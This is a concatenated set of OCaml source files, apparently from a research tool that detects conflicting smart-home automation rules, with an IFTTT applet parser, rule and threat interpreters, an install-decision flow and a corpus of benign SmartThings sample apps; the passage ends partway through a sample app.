  | toks -> fail "expected '<device> DO <command>' or 'MODE <mode>', got %S" (String.concat " " toks)

let rec split_at_then acc = function
  | [] -> fail "missing THEN"
  | t :: rest when keyword t "THEN" -> (List.rev acc, rest)
  | t :: rest -> split_at_then (t :: acc) rest

(** Parse one applet line. *)
let parse ?(name = "applet") line =
  match tokenize line with
  | i :: rest when keyword i "IF" ->
    let before_then, after_then = split_at_then [] rest in
    let (device, attribute, value), remaining = parse_state_test before_then in
    let filters, leftover = parse_filters [] remaining in
    if leftover <> [] then fail "unexpected tokens before THEN: %S" (String.concat " " leftover);
    {
      applet_name = name;
      trigger = On_state { device; attribute; value };
      filters;
      action = parse_action after_then;
    }
  | e :: d :: a :: time :: rest
    when keyword e "EVERY" && keyword d "DAY" && keyword a "AT" ->
    let before_then, after_then = split_at_then [] (time :: rest) in
    (match before_then with
    | [ t ] ->
      {
        applet_name = name;
        trigger = Daily_at (parse_time t);
        filters = [];
        action = parse_action after_then;
      }
    | toks -> fail "unexpected tokens before THEN: %S" (String.concat " " toks))
  | _ -> fail "applet must start with IF or EVERY DAY AT: %S" line

(* -- lowering to the rule IR ------------------------------------------------ *)

(* Infer the capability of a device variable from the attributes it is
   tested on and the commands issued to it. *)
let infer_capability ~attributes ~commands =
  let candidates =
    match attributes with
    | attr :: _ -> Capability.capabilities_with_attribute attr
    | [] -> ( match commands with cmd :: _ -> Capability.capabilities_with_command cmd | [] -> [])
  in
  let fits cap =
    List.for_all (fun a -> Capability.attribute_of cap a <> None) attributes
    && List.for_all (fun c -> Capability.command_of cap c <> None) commands
  in
  match List.find_opt fits candidates with
  | Some cap -> Some cap.Capability.cap_name
  | None -> ( match candidates with cap :: _ -> Some cap.Capability.cap_name | [] -> None)

let value_term v =
  match int_of_string_opt v with Some n -> Term.Int n | None -> Term.Str v

(** Lower applets into a {!Rule.smartapp}: IFTTT is just another rule
    source to the detector. *)
let to_smartapp ~name applets =
  (* collect per-device usage to infer input capabilities *)
  let usage : (string, string list * string list) Hashtbl.t = Hashtbl.create 8 in
  let note_attr device attr =
    let attrs, cmds = Option.value ~default:([], []) (Hashtbl.find_opt usage device) in
    Hashtbl.replace usage device ((if List.mem attr attrs then attrs else attr :: attrs), cmds)
  in
  let note_cmd device cmd =
    let attrs, cmds = Option.value ~default:([], []) (Hashtbl.find_opt usage device) in
    Hashtbl.replace usage device (attrs, if List.mem cmd cmds then cmds else cmd :: cmds)
  in
  List.iter
    (fun a ->
      (match a.trigger with
      | On_state { device; attribute; _ } -> note_attr device attribute
      | Daily_at _ -> ());
      List.iter (fun (d, at, _) -> note_attr d at) a.filters;
      match a.action with
      | Do_command { device; command; _ } -> note_cmd device command
      | Set_mode _ -> ())
    applets;
  let inputs =
    Hashtbl.fold
      (fun device (attributes, commands) acc ->
        let input_type =
          match infer_capability ~attributes ~commands with
          | Some cap -> "capability." ^ cap
          | None -> "capability.switch"
        in
        { Rule.var = device; input_type; title = Some device; multiple = false } :: acc)
      usage []
    |> List.sort compare
  in
  let rules =
    List.mapi
      (fun i a ->
        let trigger =
          match a.trigger with
          | On_state { device; attribute; value } ->
            Rule.Event
              {
                subject = Rule.Device device;
                attribute;
                constraint_ =
                  Formula.eq (Term.Var (device ^ "." ^ attribute)) (value_term value);
              }
          | Daily_at m -> Rule.Scheduled { at_minutes = Some m; period_seconds = None }
        in
        let predicate =
          Formula.conj
            (List.map
               (fun (d, at, v) -> Formula.eq (Term.Var (d ^ "." ^ at)) (value_term v))
               a.filters)
        in
        let actions =
          match a.action with
          | Do_command { device; command; arg } ->
            [
              {
                Rule.target = Rule.Act_device device;
                command;
                params = (match arg with Some v -> [ value_term v ] | None -> []);
                when_ = 0;
                period = 0;
                action_data = [];
              };
            ]
          | Set_mode mode ->
            [
              {
                Rule.target = Rule.Act_location_mode;
                command = "setLocationMode";
                params = [ Term.Str mode ];
                when_ = 0;
                period = 0;
                action_data = [];
              };
            ]
        in
        {
          Rule.app_name = name;
          rule_id = Printf.sprintf "%s#%d" name (i + 1);
          trigger;
          condition = { Rule.data = []; predicate };
          actions;
        })
      applets
  in
  {
    Rule.name;
    description = "IFTTT applets: " ^ String.concat "; " (List.map (fun a -> a.applet_name) applets);
    inputs;
    rules;
    uses_web_services = false;
  }

(** Parse a multi-line recipe file (one applet per non-empty line;
    [#] starts a comment) straight into a smartapp. *)
let parse_recipes ~name text =
  let applets =
    String.split_on_char '\n' text
    |> List.map String.trim
    |> List.filter (fun l -> l <> "" && l.[0] <> '#')
    |> List.mapi (fun i l -> parse ~name:(Printf.sprintf "%s-%d" name (i + 1)) l)
  in
  to_smartapp ~name applets
