lib/ifttt/ifttt.ml: Hashtbl Homeguard_rules Homeguard_solver Homeguard_st Homeguard_symexec List Option Printf String
