lib/ifttt/ifttt.mli: Homeguard_rules
