(** IFTTT-style template rules (paper §VIII-D4, Table IV): parse applet
    templates and lower them into the shared rule IR so the detector is
    platform independent. *)

module Rule = Homeguard_rules.Rule

type trigger_template =
  | On_state of { device : string; attribute : string; value : string }
  | Daily_at of int  (** minutes after midnight *)

type action_template =
  | Do_command of { device : string; command : string; arg : string option }
  | Set_mode of string

type applet = {
  applet_name : string;
  trigger : trigger_template;
  filters : (string * string * string) list;
  action : action_template;
}

exception Parse_error of string

val parse : ?name:string -> string -> applet
(** One applet line, e.g.
    ["IF porch.motion IS active THEN porchLight DO on"]. *)

val to_smartapp : name:string -> applet list -> Rule.smartapp
(** Lower applets to rules; input capabilities are inferred from the
    attributes tested and commands issued per device. *)

val parse_recipes : name:string -> string -> Rule.smartapp
(** Parse a multi-line recipe text ([#] comments allowed). *)
