(** Human-readable rendering of extracted rules (paper §IV-C: "users can
    check if the app itself will behave as it claims"). *)

module Rule = Homeguard_rules.Rule

val describe_var : string -> string
val describe_formula : Homeguard_solver.Formula.t -> string
val describe_trigger : Rule.trigger -> string
val describe_command : Rule.action -> string

val describe : Rule.t -> string
(** One sentence per rule: "When ..., if ..., then ...". *)

val describe_app : Rule.smartapp -> string
(** All rules, numbered R1, R2, ... *)
