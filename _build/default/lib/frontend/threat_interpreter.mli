(** User-facing explanations of detected threats, including the solver's
    witness situation (paper Fig 7b). *)

val describe_witness : Homeguard_solver.Solver.model -> string option
(** Readable bindings, app qualifiers stripped, internals hidden. *)

val risk_note : Homeguard_detector.Threat.category -> string
val describe : Homeguard_detector.Threat.t -> string
val describe_all : Homeguard_detector.Threat.t list -> string
