(** The one-time install-time decision flow (paper §IV-C, §VIII-D1).

    When a new app is installed: configuration arrives from the
    instrumented app, rules are fetched from the backend, threats are
    detected against everything already installed, and the user makes a
    single keep/reject/reconfigure decision. Accepted threat pairs join
    the Allowed list so future installs can detect chained threats. *)

module Rule = Homeguard_rules.Rule
module Rule_db = Homeguard_rules.Rule_db
module Detector = Homeguard_detector.Detector
module Threat = Homeguard_detector.Threat
module Chain = Homeguard_detector.Chain

type decision = Keep | Reject | Reconfigure

type report = {
  app : Rule.smartapp;
  rules_text : string;  (** rule interpreter output *)
  threats : Threat.t list;
  chains : Chain.chain list;
  threats_text : string;  (** threat interpreter output *)
}

type t = {
  db : Rule_db.t;
  allowed : Chain.t;
  mutable pending : report option;
  detector_config : Detector.config;
}

let create ?(detector_config = Detector.offline_config) () =
  { db = Rule_db.create (); allowed = Chain.create (); pending = None; detector_config }

(** Step 1-3: collect config (already folded into [detector_config] when
    using a {!Homeguard_config.Recorder}), fetch rules, detect threats.
    Returns the report to present to the user. *)
let propose t (app : Rule.smartapp) =
  let ctx = Detector.create t.detector_config in
  let threats = Detector.detect_new_app ctx t.db app in
  let chains = Chain.find_chains t.allowed threats in
  let report =
    {
      app;
      rules_text = Rule_interpreter.describe_app app;
      threats;
      chains;
      threats_text = Threat_interpreter.describe_all threats;
    }
  in
  t.pending <- Some report;
  report

exception No_pending_install

(** Step 4: the user's one-time decision. [Keep] installs the app and
    records its threat pairs as allowed; [Reject] discards it;
    [Reconfigure] discards the proposal so the user can re-run with a
    different configuration. *)
let decide t decision =
  match t.pending with
  | None -> raise No_pending_install
  | Some report ->
    t.pending <- None;
    (match decision with
    | Keep ->
      ignore (Rule_db.install t.db report.app);
      Chain.allow t.allowed report.threats
    | Reject | Reconfigure -> ())

let installed_apps t = Rule_db.installed_apps t.db
