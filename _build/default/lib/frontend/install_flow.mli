(** The one-time install-time decision flow (paper §IV-C, §VIII-D1). *)

module Rule = Homeguard_rules.Rule

type decision = Keep | Reject | Reconfigure

type report = {
  app : Rule.smartapp;
  rules_text : string;
  threats : Homeguard_detector.Threat.t list;
  chains : Homeguard_detector.Chain.chain list;
  threats_text : string;
}

type t

exception No_pending_install

val create : ?detector_config:Homeguard_detector.Detector.config -> unit -> t

val propose : t -> Rule.smartapp -> report
(** Detect threats against the installed home; the report is what the
    user sees. *)

val decide : t -> decision -> unit
(** [Keep] installs and records the threat pairs as allowed; [Reject]
    and [Reconfigure] discard the proposal. *)

val installed_apps : t -> Rule.smartapp list
