(** Rule interpreter: render extracted rules in a human-readable form so
    users "can check if the app itself will behave as it claims"
    (paper §IV-C, Fig 7b). *)

module Rule = Homeguard_rules.Rule
module Term = Homeguard_solver.Term
module Formula = Homeguard_solver.Formula

let describe_var var =
  match String.rindex_opt var '.' with
  | Some i ->
    let base = String.sub var 0 i in
    let attr = String.sub var (i + 1) (String.length var - i - 1) in
    if base = "location" then "the home's " ^ attr
    else if base = "time" then "the time"
    else Printf.sprintf "the %s of %s" attr base
  | None -> var

let rec describe_term = function
  | Term.Int n -> string_of_int n
  | Term.Str s -> s
  | Term.Var v -> describe_var v
  | Term.Add (a, b) -> describe_term a ^ " + " ^ describe_term b
  | Term.Sub (a, b) -> describe_term a ^ " - " ^ describe_term b
  | Term.Mul (a, b) -> describe_term a ^ " * " ^ describe_term b
  | Term.Neg a -> "-" ^ describe_term a

let describe_cmp = function
  | Formula.Eq -> "is"
  | Formula.Neq -> "is not"
  | Formula.Lt -> "is below"
  | Formula.Le -> "is at most"
  | Formula.Gt -> "is above"
  | Formula.Ge -> "is at least"

let rec describe_formula = function
  | Formula.True -> "always"
  | Formula.False -> "never"
  | Formula.Atom (cmp, a, b) ->
    Printf.sprintf "%s %s %s" (describe_term a) (describe_cmp cmp) (describe_term b)
  | Formula.And fs -> String.concat " and " (List.map describe_formula fs)
  | Formula.Or fs -> "either " ^ String.concat " or " (List.map describe_formula fs)
  | Formula.Not f -> "not (" ^ describe_formula f ^ ")"

let describe_trigger = function
  | Rule.Event { subject; attribute; constraint_ } ->
    let subject_str =
      match subject with
      | Rule.Device var -> var
      | Rule.Location -> "the home"
      | Rule.App_touch -> "the app button"
    in
    let base = Printf.sprintf "when %s's %s changes" subject_str attribute in
    (match constraint_ with
    | Formula.True -> base
    | f -> Printf.sprintf "when %s" (describe_formula f))
  | Rule.Scheduled { at_minutes = Some m; _ } ->
    Printf.sprintf "every day at %02d:%02d" (m / 60) (m mod 60)
  | Rule.Scheduled { period_seconds = Some p; _ } ->
    if p mod 3600 = 0 then Printf.sprintf "every %d hour(s)" (p / 3600)
    else Printf.sprintf "every %d minute(s)" (p / 60)
  | Rule.Scheduled { at_minutes = None; period_seconds = None } -> "at a scheduled time"

let describe_command (a : Rule.action) =
  let cmd =
    match (a.Rule.command, a.Rule.params) with
    | "setLocationMode", Term.Str m :: _ -> Printf.sprintf "set the home mode to %s" m
    | ("sendSms" | "sendSmsMessage"), _ -> "send an SMS"
    | ("sendPush" | "sendPushMessage" | "sendNotification"), _ -> "send a notification"
    | cmd, [] -> (
      match a.Rule.target with
      | Rule.Act_device var -> Printf.sprintf "%s %s" cmd var
      | _ -> cmd)
    | cmd, params ->
      let args = String.concat ", " (List.map describe_term params) in
      (match a.Rule.target with
      | Rule.Act_device var -> Printf.sprintf "%s %s to %s" cmd var args
      | _ -> Printf.sprintf "%s(%s)" cmd args)
  in
  let timing =
    (if a.Rule.when_ > 0 then Printf.sprintf " after %d seconds" a.Rule.when_ else "")
    ^
    if a.Rule.period > 0 then Printf.sprintf " (repeating every %d seconds)" a.Rule.period
    else ""
  in
  cmd ^ timing

(** One-sentence description of a rule. *)
let describe (rule : Rule.t) =
  let trigger = describe_trigger rule.Rule.trigger in
  let condition =
    match rule.Rule.condition.Rule.predicate with
    | Formula.True -> ""
    | f -> ", if " ^ describe_formula f
  in
  let actions = String.concat " and " (List.map describe_command rule.Rule.actions) in
  Printf.sprintf "%s%s, then %s." (String.capitalize_ascii trigger) condition actions

(** All rules of an app, numbered. *)
let describe_app (app : Rule.smartapp) =
  match app.Rule.rules with
  | [] -> Printf.sprintf "%s defines no automation rules." app.Rule.name
  | rules ->
    String.concat "\n"
      (List.mapi (fun i r -> Printf.sprintf "  R%d. %s" (i + 1) (describe r)) rules)
