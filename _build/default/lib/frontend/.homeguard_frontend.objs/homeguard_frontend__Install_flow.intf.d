lib/frontend/install_flow.mli: Homeguard_detector Homeguard_rules
