lib/frontend/threat_interpreter.ml: Buffer Homeguard_detector Homeguard_rules Homeguard_solver List Option Printf String
