lib/frontend/rule_interpreter.mli: Homeguard_rules Homeguard_solver
