lib/frontend/rule_interpreter.ml: Homeguard_rules Homeguard_solver List Printf String
