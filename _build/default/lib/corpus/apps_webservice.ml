(** Web-services SmartApps: they expose HTTP endpoints for external
    callers instead of defining automation rules, so rule extraction
    legitimately finds no rules (paper §VIII-B removes the 36 such apps
    from the corpus before measuring extraction accuracy). *)

open App_entry

let web_dashboard =
  entry ~controls_devices:false "WebDashboard" Web_service (-1)
    {|
definition(name: "WebDashboard", description: "Expose device states to a web dashboard")

preferences {
  section("Expose these devices...") {
    input "switches", "capability.switch", multiple: true, title: "Switches"
    input "temps", "capability.temperatureMeasurement", multiple: true, title: "Thermometers"
  }
}

mappings {
  path("/switches") {
    action: [GET: "listSwitches"]
  }
  path("/temperatures") {
    action: [GET: "listTemperatures"]
  }
}

def installed() {
}

def updated() {
}

def listSwitches() {
  def result = []
  switches.each { sw ->
    result.push(sw.currentSwitch)
  }
  return result
}

def listTemperatures() {
  def result = []
  temps.each { t ->
    result.push(t.currentTemperature)
  }
  return result
}
|}

let remote_control_api =
  entry ~controls_devices:false "RemoteControlAPI" Web_service (-1)
    {|
definition(name: "RemoteControlAPI", description: "Let an external application switch devices")

preferences {
  section("Allow control of...") {
    input "switches", "capability.switch", multiple: true, title: "Switches"
  }
}

mappings {
  path("/switches/on") {
    action: [PUT: "turnAllOn"]
  }
  path("/switches/off") {
    action: [PUT: "turnAllOff"]
  }
}

def installed() {
}

def updated() {
}

def turnAllOn() {
  switches.on()
}

def turnAllOff() {
  switches.off()
}
|}

let ifttt_bridge =
  entry ~controls_devices:false "IFTTTBridge" Web_service (-1)
    {|
definition(name: "IFTTTBridge", description: "Bridge IFTTT recipes into SmartThings")

preferences {
  section("IFTTT may use...") {
    input "switches", "capability.switch", multiple: true, title: "Switches"
    input "locks", "capability.lock", multiple: true, title: "Locks"
  }
}

mappings {
  path("/trigger") {
    action: [POST: "handleTrigger"]
  }
}

def installed() {
}

def updated() {
}

def handleTrigger() {
  switches.on()
}
|}

let status_endpoint =
  entry ~controls_devices:false "StatusEndpoint" Web_service (-1)
    {|
definition(name: "StatusEndpoint", description: "A single endpoint reporting whether anyone is home")

preferences {
  section("Report on...") {
    input "people", "capability.presenceSensor", multiple: true, title: "Presence sensors"
  }
}

mappings {
  path("/status") {
    action: [GET: "homeStatus"]
  }
}

def installed() {
}

def updated() {
}

def homeStatus() {
  def anyoneHome = false
  people.each { p ->
    if (p.currentPresence == "present") {
      anyoneHome = true
    }
  }
  return anyoneHome
}
|}

let all = [ web_dashboard; remote_control_api; ifttt_bridge; status_endpoint ]
