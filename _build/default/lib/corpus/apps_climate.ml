(** Climate/HVAC SmartApps. It's Too Hot participates in the paper's
    Self-Disabling case with Energy Saver (§VIII-B item 5); Virtual
    Thermostat is the classic two-rule hysteresis app. *)

open App_entry

let its_too_hot =
  entry "ItsTooHot" Climate 1
    {|
definition(name: "ItsTooHot", description: "Turn on the air conditioner when the temperature rises above a limit")

preferences {
  section("Monitor the temperature...") {
    input "tempSensor", "capability.temperatureMeasurement", title: "Where?"
    input "hotLimit", "number", title: "Too hot above?"
  }
  section("Turn on the AC...") {
    input "acSwitch", "capability.switch", title: "Air conditioner switch"
  }
}

def installed() {
  subscribe(tempSensor, "temperature", temperatureHandler)
}

def updated() {
  unsubscribe()
  subscribe(tempSensor, "temperature", temperatureHandler)
}

def temperatureHandler(evt) {
  def currentTemp = evt.integerValue
  if (currentTemp > hotLimit) {
    acSwitch.on()
  }
}
|}

let its_too_cold =
  entry "ItsTooCold" Climate 1
    {|
definition(name: "ItsTooCold", description: "Turn on the space heater when the temperature drops below a limit")

preferences {
  section("Monitor the temperature...") {
    input "tempSensor", "capability.temperatureMeasurement", title: "Where?"
    input "coldLimit", "number", title: "Too cold below?"
  }
  section("Turn on the heater...") {
    input "heaterSwitch", "capability.switch", title: "Space heater switch"
  }
}

def installed() {
  subscribe(tempSensor, "temperature", temperatureHandler)
}

def updated() {
  unsubscribe()
  subscribe(tempSensor, "temperature", temperatureHandler)
}

def temperatureHandler(evt) {
  if (evt.integerValue < coldLimit) {
    heaterSwitch.on()
  }
}
|}

let virtual_thermostat =
  entry "VirtualThermostat" Climate 2
    {|
definition(name: "VirtualThermostat", description: "Control a space heater in conjunction with a temperature sensor")

preferences {
  section("Choose a temperature sensor...") {
    input "sensor", "capability.temperatureMeasurement", title: "Sensor"
  }
  section("Select the heater outlet...") {
    input "heaterOutlet", "capability.switch", title: "Heater outlet"
  }
  section("Set the desired temperature...") {
    input "setpoint", "number", title: "Set temp"
  }
}

def installed() {
  subscribe(sensor, "temperature", temperatureHandler)
}

def updated() {
  unsubscribe()
  subscribe(sensor, "temperature", temperatureHandler)
}

def temperatureHandler(evt) {
  def t = evt.integerValue
  if (t < setpoint) {
    heaterOutlet.on()
  } else {
    if (t > setpoint + 1) {
      heaterOutlet.off()
    }
  }
}
|}

let vent_when_humid =
  entry "VentWhenHumid" Climate 1
    {|
definition(name: "VentWhenHumid", description: "Run the bathroom fan when humidity gets high")

preferences {
  section("Monitor humidity...") {
    input "humiditySensor", "capability.relativeHumidityMeasurement", title: "Where?"
    input "humidLimit", "number", title: "Above what %?"
  }
  section("Run this fan...") {
    input "ventFan", "capability.switch", title: "Vent fan"
  }
}

def installed() {
  subscribe(humiditySensor, "humidity", humidityHandler)
}

def updated() {
  unsubscribe()
  subscribe(humiditySensor, "humidity", humidityHandler)
}

def humidityHandler(evt) {
  if (evt.integerValue > humidLimit) {
    ventFan.on()
  }
}
|}

let comfort_window =
  entry "ComfortWindow" Climate 2
    {|
definition(name: "ComfortWindow", description: "Open the window opener when the room gets stuffy, close it when it cools down")

preferences {
  section("Monitor the temperature...") {
    input "roomSensor", "capability.temperatureMeasurement", title: "Where?"
    input "openAbove", "number", title: "Open above?"
    input "closeBelow", "number", title: "Close below?"
  }
  section("Control this window opener...") {
    input "windowSwitch", "capability.switch", title: "Window opener"
  }
}

def installed() {
  subscribe(roomSensor, "temperature", temperatureHandler)
}

def updated() {
  unsubscribe()
  subscribe(roomSensor, "temperature", temperatureHandler)
}

def temperatureHandler(evt) {
  def t = evt.integerValue
  if (t > openAbove) {
    windowSwitch.on()
  } else {
    if (t < closeBelow) {
      windowSwitch.off()
    }
  }
}
|}

let winter_guard =
  entry "WinterGuard" Climate 1
    {|
definition(name: "WinterGuard", description: "Close the window opener whenever it gets cold outside")

preferences {
  section("Outdoor temperature...") {
    input "outdoorSensor", "capability.temperatureMeasurement", title: "Where?"
    input "coldPoint", "number", title: "Below?"
  }
  section("Close this window opener...") {
    input "windowSwitch", "capability.switch", title: "Window opener"
  }
}

def installed() {
  subscribe(outdoorSensor, "temperature", temperatureHandler)
}

def updated() {
  unsubscribe()
  subscribe(outdoorSensor, "temperature", temperatureHandler)
}

def temperatureHandler(evt) {
  if (evt.integerValue < coldPoint) {
    windowSwitch.off()
  }
}
|}

let thermostat_mode_director =
  entry "ThermostatModeDirector" Climate 2
    {|
definition(name: "ThermostatModeDirector", description: "Switch the thermostat between heating and cooling by outdoor temperature")

preferences {
  section("Outdoor temperature...") {
    input "outdoor", "capability.temperatureMeasurement", title: "Where?"
    input "heatBelow", "number", title: "Heat below?"
    input "coolAbove", "number", title: "Cool above?"
  }
  section("Direct this thermostat...") {
    input "thermostat1", "capability.thermostat", title: "Thermostat"
  }
}

def installed() {
  subscribe(outdoor, "temperature", temperatureHandler)
}

def updated() {
  unsubscribe()
  subscribe(outdoor, "temperature", temperatureHandler)
}

def temperatureHandler(evt) {
  def t = evt.integerValue
  if (t < heatBelow) {
    thermostat1.heat()
  } else {
    if (t > coolAbove) {
      thermostat1.cool()
    }
  }
}
|}

let heater_off_at_night =
  entry "HeaterOffAtNight" Climate 1
    {|
definition(name: "HeaterOffAtNight", description: "Turn the space heater off when the home goes to Night mode")

preferences {
  section("Turn off this heater...") {
    input "heaterSwitch", "capability.switch", title: "Space heater"
  }
}

def installed() {
  subscribe(location, "mode", modeHandler)
}

def updated() {
  unsubscribe()
  subscribe(location, "mode", modeHandler)
}

def modeHandler(evt) {
  if (evt.value == "Night") {
    heaterSwitch.off()
  }
}
|}

let morning_warmup =
  entry "MorningWarmup" Climate 1
    {|
definition(name: "MorningWarmup", description: "Raise the heating setpoint every morning")

preferences {
  section("Warm up this thermostat...") {
    input "thermostat1", "capability.thermostat", title: "Thermostat"
    input "morningTemp", "number", title: "Setpoint?"
  }
}

def installed() {
  schedule("0 30 6 * * ?", warmUp)
}

def updated() {
  unschedule()
  schedule("0 30 6 * * ?", warmUp)
}

def warmUp() {
  thermostat1.setHeatingSetpoint(morningTemp)
}
|}

let cool_down_evening =
  entry "CoolDownEvening" Climate 1
    {|
definition(name: "CoolDownEvening", description: "Lower the cooling setpoint for sleep every evening")

preferences {
  section("Cool down this thermostat...") {
    input "thermostat1", "capability.thermostat", title: "Thermostat"
    input "eveningTemp", "number", title: "Setpoint?"
  }
}

def installed() {
  schedule("0 0 21 * * ?", coolDown)
}

def updated() {
  unschedule()
  schedule("0 0 21 * * ?", coolDown)
}

def coolDown() {
  thermostat1.setCoolingSetpoint(eveningTemp)
}
|}

let window_fan_vent =
  entry "WindowFanVent" Climate 2
    {|
definition(name: "WindowFanVent", description: "Run the window fan when it is cooler outside than inside")

preferences {
  section("Temperatures...") {
    input "indoor", "capability.temperatureMeasurement", title: "Indoor sensor"
    input "outdoor", "capability.temperatureMeasurement", title: "Outdoor sensor"
  }
  section("Run this fan...") {
    input "windowFan", "capability.switch", title: "Window fan"
  }
}

def installed() {
  subscribe(indoor, "temperature", temperatureHandler)
}

def updated() {
  unsubscribe()
  subscribe(indoor, "temperature", temperatureHandler)
}

def temperatureHandler(evt) {
  def tIn = evt.integerValue
  def tOut = outdoor.currentTemperature
  if (tOut < tIn) {
    windowFan.on()
  } else {
    windowFan.off()
  }
}
|}

let auto_humidify =
  entry "AutoHumidify" Climate 2
    {|
definition(name: "AutoHumidify", description: "Keep winter air comfortable with a humidifier")

preferences {
  section("Monitor humidity...") {
    input "humiditySensor", "capability.relativeHumidityMeasurement", title: "Where?"
    input "dryLimit", "number", title: "Too dry below?"
  }
  section("Control this humidifier...") {
    input "humidifier1", "capability.switch", title: "Humidifier"
  }
}

def installed() {
  subscribe(humiditySensor, "humidity", humidityHandler)
}

def updated() {
  unsubscribe()
  subscribe(humiditySensor, "humidity", humidityHandler)
}

def humidityHandler(evt) {
  def h = evt.integerValue
  if (h < dryLimit) {
    humidifier1.on()
  } else {
    if (h > dryLimit + 10) {
      humidifier1.off()
    }
  }
}
|}

let all =
  [
    its_too_hot;
    its_too_cold;
    virtual_thermostat;
    vent_when_humid;
    comfort_window;
    winter_guard;
    thermostat_mode_director;
    heater_off_at_night;
    morning_warmup;
    cool_down_evening;
    window_fan_vent;
    auto_humidify;
  ]
