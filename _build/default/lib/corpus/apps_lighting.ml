(** Lighting-automation SmartApps modeled on the SmartThings public
    repository (Let There Be Dark, Light Up the Night, Smart Nightlight,
    Brighten My Path, ...). Light Up the Night is the paper's real-world
    Loop-Triggering case (§VIII-B item 6). *)

open App_entry

let let_there_be_dark =
  entry "LetThereBeDark" Lighting 1
    {|
definition(name: "LetThereBeDark", description: "Turn your lights off when a door closes")

preferences {
  section("When the door closes...") {
    input "contact1", "capability.contactSensor", title: "Where?"
  }
  section("Turn off a light...") {
    input "switches", "capability.switch", multiple: true, title: "Which lights?"
  }
}

def installed() {
  subscribe(contact1, "contact", contactHandler)
}

def updated() {
  unsubscribe()
  subscribe(contact1, "contact", contactHandler)
}

def contactHandler(evt) {
  if (evt.value == "closed") {
    switches.off()
  }
}
|}

let light_up_the_night =
  entry "LightUpTheNight" Lighting 2
    {|
definition(name: "LightUpTheNight", description: "Turn lights on when it gets dark and off when it gets light again")

preferences {
  section("Monitor the luminosity...") {
    input "lightSensor", "capability.illuminanceMeasurement", title: "Where?"
  }
  section("Control these lights...") {
    input "lights", "capability.switch", multiple: true, title: "Which lights?"
  }
}

def installed() {
  subscribe(lightSensor, "illuminance", illuminanceHandler)
}

def updated() {
  unsubscribe()
  subscribe(lightSensor, "illuminance", illuminanceHandler)
}

def illuminanceHandler(evt) {
  def lux = evt.integerValue
  if (lux < 30) {
    lights.on()
  } else {
    if (lux > 50) {
      lights.off()
    }
  }
}
|}

let smart_nightlight =
  entry "SmartNightlight" Lighting 2
    {|
definition(name: "SmartNightlight", description: "Turn lights on for a period of time when motion is detected in the dark")

preferences {
  section("Control these lights...") {
    input "nightLights", "capability.switch", multiple: true, title: "Which lights?"
  }
  section("Turning on when there is movement...") {
    input "motionSensor", "capability.motionSensor", title: "Where?"
  }
  section("And it is dark...") {
    input "lightSensor", "capability.illuminanceMeasurement", title: "Light sensor"
    input "luxLevel", "number", title: "Darker than?"
  }
  section("Off after no motion for...") {
    input "delayMinutes", "number", title: "Minutes?"
  }
}

def installed() {
  subscribe(motionSensor, "motion", motionHandler)
}

def updated() {
  unsubscribe()
  subscribe(motionSensor, "motion", motionHandler)
}

def motionHandler(evt) {
  if (evt.value == "active") {
    def lux = lightSensor.currentIlluminance
    if (lux < luxLevel) {
      nightLights.on()
    }
  } else {
    if (evt.value == "inactive") {
      runIn(300, turnOffAfterDelay)
    }
  }
}

def turnOffAfterDelay() {
  nightLights.off()
}
|}

let brighten_my_path =
  entry "BrightenMyPath" Lighting 1
    {|
definition(name: "BrightenMyPath", description: "Turn your lights on when motion is detected")

preferences {
  section("When there is movement...") {
    input "motion1", "capability.motionSensor", title: "Where?"
  }
  section("Turn on a light...") {
    input "pathLights", "capability.switch", multiple: true, title: "Which lights?"
  }
}

def installed() {
  subscribe(motion1, "motion.active", motionActiveHandler)
}

def updated() {
  unsubscribe()
  subscribe(motion1, "motion.active", motionActiveHandler)
}

def motionActiveHandler(evt) {
  pathLights.on()
}
|}

let darken_behind_me =
  entry "DarkenBehindMe" Lighting 1
    {|
definition(name: "DarkenBehindMe", description: "Turn your lights off after motion stops")

preferences {
  section("When there is no movement...") {
    input "motion1", "capability.motionSensor", title: "Where?"
  }
  section("Turn off a light...") {
    input "hallLights", "capability.switch", multiple: true, title: "Which lights?"
  }
}

def installed() {
  subscribe(motion1, "motion.inactive", motionInactiveHandler)
}

def updated() {
  unsubscribe()
  subscribe(motion1, "motion.inactive", motionInactiveHandler)
}

def motionInactiveHandler(evt) {
  hallLights.off()
}
|}

let undead_early_warning =
  entry "UndeadEarlyWarning" Lighting 1
    {|
definition(name: "UndeadEarlyWarning", description: "Turn on all the lights when the door opens, to expose the zombie horde")

preferences {
  section("When the door opens...") {
    input "contact1", "capability.contactSensor", title: "Where?"
  }
  section("Turn on the lights...") {
    input "warningLights", "capability.switch", multiple: true, title: "Which lights?"
  }
}

def installed() {
  subscribe(contact1, "contact.open", contactOpenHandler)
}

def updated() {
  unsubscribe()
  subscribe(contact1, "contact.open", contactOpenHandler)
}

def contactOpenHandler(evt) {
  warningLights.on()
}
|}

let lights_off_when_closed =
  entry "LightsOffWhenClosed" Lighting 1
    {|
definition(name: "LightsOffWhenClosed", description: "Turn lights off when a contact sensor closes")

preferences {
  section("When the garage door closes...") {
    input "garageContact", "capability.contactSensor", title: "Where?"
  }
  section("Turn off these lights...") {
    input "garageLights", "capability.switch", multiple: true, title: "Which lights?"
  }
}

def installed() {
  subscribe(garageContact, "contact.closed", contactClosedHandler)
}

def updated() {
  unsubscribe()
  subscribe(garageContact, "contact.closed", contactClosedHandler)
}

def contactClosedHandler(evt) {
  garageLights.off()
}
|}

let turn_it_on_for_5_minutes =
  entry "TurnItOnFor5Minutes" Lighting 1
    {|
definition(name: "TurnItOnFor5Minutes", description: "When a contact opens, turn on a light for 5 minutes and then turn it off")

preferences {
  section("When the door opens...") {
    input "contact1", "capability.contactSensor", title: "Where?"
  }
  section("Turn on a light for 5 minutes...") {
    input "timedLight", "capability.switch", title: "Which light?"
  }
}

def installed() {
  subscribe(contact1, "contact.open", contactOpenHandler)
}

def updated() {
  unsubscribe()
  subscribe(contact1, "contact.open", contactOpenHandler)
}

def contactOpenHandler(evt) {
  timedLight.on()
  runIn(300, turnOffLight)
}

def turnOffLight() {
  timedLight.off()
}
|}

let light_follows_me =
  entry "LightFollowsMe" Lighting 2
    {|
definition(name: "LightFollowsMe", description: "Turn lights on when motion is detected then off again once it stops")

preferences {
  section("Where the motion is...") {
    input "motion1", "capability.motionSensor", title: "Where?"
  }
  section("Control these lights...") {
    input "followLights", "capability.switch", multiple: true, title: "Which lights?"
  }
  section("Off when there has been no movement for...") {
    input "minutes1", "number", title: "Minutes?"
  }
}

def installed() {
  subscribe(motion1, "motion", motionHandler)
}

def updated() {
  unsubscribe()
  subscribe(motion1, "motion", motionHandler)
}

def motionHandler(evt) {
